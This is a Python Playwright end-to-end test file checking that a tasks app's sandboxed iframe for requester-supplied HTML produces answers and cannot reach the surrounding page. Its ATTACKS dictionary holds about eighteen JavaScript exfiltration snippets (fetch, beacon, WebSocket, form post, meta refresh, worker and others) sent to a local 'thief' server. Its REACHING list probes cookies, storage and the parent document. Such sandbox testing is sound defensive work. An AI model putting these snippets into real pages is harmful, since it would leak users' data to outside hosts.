"""A requester's own page in a browser: what it can do, and that it reaches nothing else whatever it tries."""

from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from time import sleep
from typing import Any

import pytest
from playwright.sync_api import Browser, FrameLocator, Page

from tasks_app import tools
from tasks_app.web import sandbox
from tests.e2e.pages import Pages, demo_options, serve

FIELDS = [
    {"name": "good", "label": "Good?", "kind": "choice", "options": ["Yes", "No"]},
    {"name": "count", "label": "How many?", "kind": "number", "required": False},
    {"name": "why", "label": "Why?", "kind": "text", "required": False},
    {"name": "has", "label": "Has", "kind": "choices", "options": ["a", "b"], "required": False},
]
Open = Callable[[str], FrameLocator]


class SlowPages(Pages):
    """The sandbox's page comes in two pieces, as over a slow line: its head, and later its body."""

    def do_GET(self) -> None:
        if self.path != "/sandbox/":
            super().do_GET()
            return
        head, mark, body = sandbox.document().partition("<body>")
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(head.encode())
        self.wfile.flush()
        sleep(0.1)
        self.wfile.write((mark + body).encode())


class Thief(BaseHTTPRequestHandler):
    """Where stolen things would go: notes every request."""

    heard: list[str]

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_HEAD = do_GET  # noqa: N815  # the names are the standard library's

    def log_message(self, *arguments: object) -> None:
        pass


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with serve(type("Demos", (SlowPages,), {"kinds": demo_options()})) as at:
        yield at


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page in whose console refusals may stand: here they are what is wanted."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture
def stolen() -> list[str]:
    return []


@pytest.fixture
def thief(stolen: list[str]) -> Iterator[str]:
    with serve(type("Noting", (Thief,), {"heard": stolen})) as at:
        yield at


@pytest.fixture
def show(page: Page, address: str) -> Open:
    def open_page(html: str) -> FrameLocator:
        def changed(route: Any) -> None:
            options = route.fetch().json()
            question = {"prompt": "?", "fields": FIELDS, "html": html}
            route.fulfill(json=options | {"question": tools.get("own_html").clean_question(question)})

        page.route("**/demos/own_html.json", changed)
        page.goto(f"{address}/harness/index.html?kind=own_html&demo=1")
        page.wait_for_selector("html[data-ready]", state="attached")
        return page.frame_locator("iframe")

    return open_page


def submits(page: Page) -> Any:
    return page.evaluate("harness.submits")


def test_crowd_elements_make_an_answer(page: Page, show: Open) -> None:
    frame = show(
        '<h1><crowd-item></crowd-item></h1><crowd-choice name="good" label="Good?" options="Yes, No"></crowd-choice>'
        '<crowd-number name="count" label="How many?"></crowd-number><crowd-text name="why" label="Why?"></crowd-text>'
        "<crowd-submit>Done</crowd-submit>"
    )
    assert frame.get_by_role("heading").inner_text() == "Corner Café, 12 Mill Lane"
    frame.get_by_role("textbox", name="Why?").fill("A red door")
    page.wait_for_function("() => harness.tool.value() !== null")
    assert [one["code"] for one in page.evaluate("harness.tool.problems()")] == ["missing"]
    frame.get_by_role("button", name="Yes").click()
    frame.get_by_role("spinbutton").fill("3")
    frame.get_by_role("button", name="Done").click()
    page.wait_for_function("() => harness.submits.length === 1")
    assert submits(page) == [{"fields": {"good": "Yes", "count": 3, "why": "A red door"}}]


def test_a_plain_form_and_a_script_of_its_own_answer_as_well(page: Page, show: Open) -> None:
    frame = show(
        '<form><input name="good" value="No"><input type="number" name="count" value="2">'
        '<input type="checkbox" name="has" value="a" checked><input type="checkbox" name="has" value="b" checked>'
        "<button>Send</button></form><p id=p></p>"
        "<script>document.getElementById('p').textContent = 'Item: ' + quorate.item.text;</script>"
    )
    assert frame.locator("#p").inner_text() == "Item: Corner Café, 12 Mill Lane"
    frame.get_by_role("button", name="Send").click()
    page.wait_for_function("() => harness.submits.length === 1")
    assert submits(page) == [{"fields": {"good": "No", "count": 2, "has": ["a", "b"]}}]


def test_only_the_frame_is_heard_and_only_the_fields_of_the_question(page: Page, show: Open) -> None:
    show("<script>quorate.submit({good: 'Yes', admin: true, __proto__: 1}); quorate.submit('x');</script>")
    page.wait_for_function("() => harness.submits.length >= 1")
    page.evaluate("window.postMessage({quorate: 'submit', values: {good: 'No'}}, '*')")
    page.wait_for_timeout(200)
    assert {str(one) for one in submits(page)} == {str({"fields": {"good": "Yes"}})}


# Each tries to bring something out, or to reach what is not its own. `T` is the thief's address.
ATTACKS = {
    "fetch": "fetch('T/fetch').catch(() => {})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'T/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('T/beacon', 'x')",
    "websocket": "new WebSocket('T/socket'.replace('http', 'ws'))",
    "event source": "new EventSource('T/events')",
    "image": "new Image().src = 'T/image'",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'T/script'}))",
    "style": "document.head.append(Object.assign(document.createElement('style'), {textContent: '@import \"T/style\"; body {background: url(T/background)}'}))",
    "link": "for (const rel of ['stylesheet', 'prefetch', 'preload', 'preconnect', 'icon']) document.head.append(Object.assign(document.createElement('link'), {rel, as: 'image', href: 'T/' + rel}))",
    "form": "const f = document.createElement('form'); f.action = 'T/form'; f.method = 'post'; document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'T/frame'}))",
    "own address": "location.href = 'T/location'",
    "top address": "try { top.location.href = 'T/top' } catch (e) {}",
    "window": "try { window.open('T/window') } catch (e) {}",
    "download": "Object.assign(document.createElement('a'), {href: 'T/download', download: 'x'}).click()",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0; url=T/refresh'}))",
    "media": "document.body.append(Object.assign(document.createElement('video'), {src: 'T/video', autoplay: true}), Object.assign(document.createElement('object'), {data: 'T/object'}))",
    "worker": "try { new Worker(URL.createObjectURL(new Blob([\"fetch('T/worker')\"]))) } catch (e) {}",
}  # fmt: skip


def test_the_thief_hears_what_reaches_him(page: Page, thief: str, stolen: list[str]) -> None:
    page.goto(f"{thief}/control")
    assert "/control" in stolen


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_brings_nothing_out(page: Page, show: Open, thief: str, stolen: list[str], name: str) -> None:
    show(f"<p>Hello</p><script>{ATTACKS[name].replace('T/', thief + '/')}</script>")
    page.wait_for_timeout(700)
    assert stolen == []
    assert page.url.endswith("kind=own_html&demo=1")
    assert len(page.context.pages) == 1


REACHING = {
    "the page's document": "parent.document.title",
    "the page's address": "parent.location.href",
    "cookies": "document.cookie",
    "local storage": "localStorage.length",
    "session storage": "sessionStorage.length",
    "other people's machines": "new RTCPeerConnection()",
    "databases": "indexedDB.open('x') && 'open'",
}


def test_nothing_of_the_page_around_is_reached(page: Page, show: Open) -> None:
    page.add_init_script("document.cookie = 'session=secret'")
    tries = ", ".join(
        f"{name!r}: (() => {{ try {{ return String({code}) }} catch (e) {{ return 'refused' }} }})()"
        for name, code in REACHING.items()
    )
    frame = show(
        f"<p id=p></p><script>document.getElementById('p').textContent = JSON.stringify({{{tries}, origin: self.origin}})</script>"
    )
    said = frame.locator("#p").inner_text()
    assert "secret" not in said
    assert '"origin":"null"' in said
    for name in REACHING:
        assert f'"{name}":"refused"' in said, said
